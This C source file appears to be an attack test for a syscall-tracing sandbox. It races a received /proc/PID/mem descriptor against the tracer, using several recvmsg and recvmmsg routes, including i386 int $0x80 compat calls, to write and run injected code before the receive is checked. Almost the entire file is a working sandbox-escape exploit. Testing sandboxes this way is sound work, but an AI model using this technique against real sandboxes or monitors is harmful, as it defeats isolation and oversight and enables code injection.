/*
 * Attack: use a received descriptor before the tracer judges it, through the
 * receives attack_recv_race does not make. An untraced helper (mem_fd_server,
 * socket path argv[1]) sends this process a descriptor of its own
 * /proc/PID/mem with SCM_RIGHTS; a sibling thread spins pwrite()ing the code
 * blob over tw_patch_target through the number it will get while the main
 * thread receives it by route argv[2]:
 *   waitall       recvmsg with MSG_WAITALL
 *   mmsg          blocking recvmmsg (vlen 1, no MSG_WAITFORONE)
 *   mmsg_timeout  recvmmsg with a timeout
 *   int80_recvmsg        i386 recvmsg (372) through int $0x80, 64-bit stack
 *   socketcall_recvmsg   i386 socketcall(SYS_RECVMSG) through int $0x80
 *   socketcall_recvmmsg  i386 socketcall(SYS_RECVMMSG) through int $0x80
 * (the i386 routes keep their structs in MAP_32BIT memory). argv[3]: how many
 * receives to try (default 200). Prints COUNT <tries>, STEP race_recv with
 * the last result, and RAN race_call if the sibling's write landed.
 */
#include "common.h"

#include <pthread.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>

TW_DEFINE_PATCH_TARGET;

#define I386_NR_SOCKETCALL 102
#define I386_NR_RECVMSG 372
#define I386_SYS_RECVMSG 17
#define I386_SYS_RECVMMSG 19

static volatile int target_fd = -1, won, stop;

static void *spinner(void *unused)
{
	(void)unused;
	while (!stop) {
		int fd = target_fd;

		if (fd >= 0 && pwrite(fd, TW_CODE, sizeof(TW_CODE), (off_t)(uintptr_t)tw_patch_target) ==
				       (ssize_t)sizeof(TW_CODE)) {
			won = 1;
			return NULL;
		}
	}
	return NULL;
}

static int connect_to(const char *path)
{
	struct sockaddr_un addr = {.sun_family = AF_UNIX};
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	strncpy(addr.sun_path, path, sizeof(addr.sun_path) - 1);
	if (s < 0 || connect(s, (struct sockaddr *)&addr, sizeof(addr)) < 0)
		return -1;
	return s;
}

static long int80(long nr, long a, long b, long c)
{
	long ret;

	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c)
			 : "memory", "cc", "r8", "r9", "r10", "r11");
	return ret;
}

/* i386 structs (compat layouts), in memory below 4 GiB. */
struct msghdr32 {
	uint32_t name, namelen, iov, iovlen, control, controllen, flags;
};
struct mmsghdr32 {
	struct msghdr32 hdr;
	uint32_t len;
};
struct low {
	struct mmsghdr32 mmsg;
	uint32_t iov[2], block[5];
	int data[2];
	unsigned char control[16]; /* cmsghdr32 (len, level, type) + one int */
};

static struct low *low;

/* An i386 receive through int $0x80; returns its result (-errno) and the descriptor. */
static long receive_i386(const char *route, int s, int *fd)
{
	long n;

	memset(low, 0, sizeof(*low));
	low->iov[0] = (uint32_t)(uintptr_t)low->data;
	low->iov[1] = sizeof(low->data);
	low->mmsg.hdr = (struct msghdr32){.iov = (uint32_t)(uintptr_t)low->iov, .iovlen = 1,
					  .control = (uint32_t)(uintptr_t)low->control, .controllen = 16};
	low->block[0] = (uint32_t)s;
	low->block[1] = (uint32_t)(uintptr_t)&low->mmsg;
	if (!strcmp(route, "int80_recvmsg")) {
		n = int80(I386_NR_RECVMSG, s, (long)(uintptr_t)&low->mmsg.hdr, MSG_CMSG_CLOEXEC);
	} else if (!strcmp(route, "socketcall_recvmsg")) {
		low->block[2] = MSG_CMSG_CLOEXEC;
		n = int80(I386_NR_SOCKETCALL, I386_SYS_RECVMSG, (long)(uintptr_t)low->block, 0);
	} else {
		low->block[2] = 1; /* vlen */
		low->block[3] = MSG_CMSG_CLOEXEC;
		n = int80(I386_NR_SOCKETCALL, I386_SYS_RECVMMSG, (long)(uintptr_t)low->block, 0);
	}
	if (n >= 0 && low->mmsg.hdr.controllen >= 16)
		memcpy(fd, low->control + 12, sizeof(int));
	return n;
}

/* A 64-bit receive; returns its result (-errno) and the descriptor. */
static long receive_x86_64(const char *route, int s, int *fd)
{
	union {
		char buf[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} control;
	int data[2];
	struct iovec iov = {.iov_base = data, .iov_len = sizeof(data)};
	struct mmsghdr m = {.msg_hdr = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control.buf,
					.msg_controllen = sizeof(control.buf)}};
	struct timespec timeout = {.tv_sec = 10};
	struct cmsghdr *cmsg;
	int n = !strcmp(route, "waitall") ? (int)recvmsg(s, &m.msg_hdr, MSG_WAITALL | MSG_CMSG_CLOEXEC)
					   : recvmmsg(s, &m, 1, MSG_CMSG_CLOEXEC, strcmp(route, "mmsg") ? &timeout : NULL);

	if (n < 0)
		return -errno;
	for (cmsg = CMSG_FIRSTHDR(&m.msg_hdr); cmsg; cmsg = CMSG_NXTHDR(&m.msg_hdr, cmsg))
		if (cmsg->cmsg_level == SOL_SOCKET && cmsg->cmsg_type == SCM_RIGHTS)
			memcpy(fd, CMSG_DATA(cmsg), sizeof(int));
	return n;
}

int main(int argc, char **argv)
{
	long tries = argc > 3 ? tw_count_arg(argc, argv, 3, "SOCKET ROUTE [TRIES]") : 200, i;
	const char *route = argc > 2 ? argv[2] : "";
	int i386 = !strncmp(route, "int80_", 6) || !strncmp(route, "socketcall_", 11);
	pthread_t thread;
	long n = 0;

	tw_init();
	if (argc < 3 || (!i386 && strcmp(route, "mmsg") && strcmp(route, "mmsg_timeout") &&
			  strcmp(route, "waitall"))) {
		fprintf(stderr, "usage: %s SOCKET waitall|mmsg|mmsg_timeout|int80_recvmsg|socketcall_recvmsg|"
			"socketcall_recvmmsg [TRIES]\n", argv[0]);
		return 2;
	}
	low = mmap(NULL, 4096, TW_RW, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (low == MAP_FAILED) {
		tw_step("race_low", "mmap", -1, errno);
		return tw_done();
	}
	pthread_create(&thread, NULL, spinner, NULL);
	for (i = 0; i < tries && !won; i++) {
		int s = connect_to(argv[1]), next, fd = -1;

		if (s < 0) {
			tw_step("race_connect", "connect", -1, errno);
			break;
		}
		next = dup(0); /* the lowest free number: where the descriptor lands */
		close(next);
		target_fd = next;
		n = i386 ? receive_i386(route, s, &fd) : receive_x86_64(route, s, &fd);
		for (int waited = 0; fd >= 0 && !won && waited < 100; waited++)
			usleep(1000);
		if (fd >= 0)
			close(fd);
		target_fd = -1;
		close(s);
	}
	stop = 1;
	pthread_join(thread, NULL);
	tw_step_raw("race_recv", route, n);
	tw_emit("COUNT %ld", i);
	if (won)
		tw_run("race_call", (const void *)tw_patch_target);
	return tw_done();
}
